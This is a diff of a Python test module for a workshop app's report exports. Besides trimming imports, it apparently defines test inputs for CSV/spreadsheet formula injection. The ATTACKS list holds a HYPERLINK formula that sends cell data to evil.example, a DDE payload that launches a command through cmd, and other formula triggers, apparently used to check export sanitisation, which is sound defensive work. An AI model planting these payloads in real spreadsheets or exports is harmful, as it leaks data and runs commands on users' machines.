@@ -13,18 +13,16 @@ import csv
 import io
 import shutil
 import zipfile
-from datetime import date
 
 import pytest
 from openpyxl import load_workbook
 
-from workshop.content import default_kit, find_run_sheet
 from workshop.db import Database
 from workshop.demo import build_past_demo
-from workshop.models import Activity, CardKind, College
+from workshop.models import Activity, CardKind
 from workshop.reports import export_report, export_synthesis
 from workshop.reports.data import DataTable, write_csv_zip, write_sheet_csv_zip
-from workshop.services import cards, participants, seminars
+from workshop.services import cards
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+SUM(A1:A9)", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3"]
